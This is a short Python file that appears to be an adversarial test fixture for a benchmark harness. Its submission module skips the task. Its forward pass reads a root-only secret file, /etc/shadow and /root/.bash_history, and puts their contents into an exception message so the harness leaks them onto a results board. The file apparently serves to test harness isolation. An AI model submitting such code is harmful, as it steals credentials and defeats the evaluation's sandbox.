"""Peer cheat, reading a root-only file (issue 13): read whatever secret it can -- the file ``KB_CHEAT_SECRET_FILE``
names (the test's 0600 root-owned file), ``/etc/shadow`` -- and put its contents into the message of an exception,
which a harness turns into the failure reason that the board shows."""

import os

import torch.nn as nn

PLACES = [os.environ.get("KB_CHEAT_SECRET_FILE", ""), "/etc/shadow", "/root/.bash_history"]


def _loot() -> str:
    found = []
    for place in PLACES:
        try:
            with open(place) as secret:
                found.append(f"{place}: {secret.read(120)!r}")
        except OSError as err:
            found.append(f"{place}: {type(err).__name__}")
    return "; ".join(found)


class ModelNew(nn.Module):
    def __init__(self, margin: float = 1.0):
        super().__init__()

    def forward(self, anchor, positive, negative):
        raise RuntimeError(f"leaked {_loot()}")
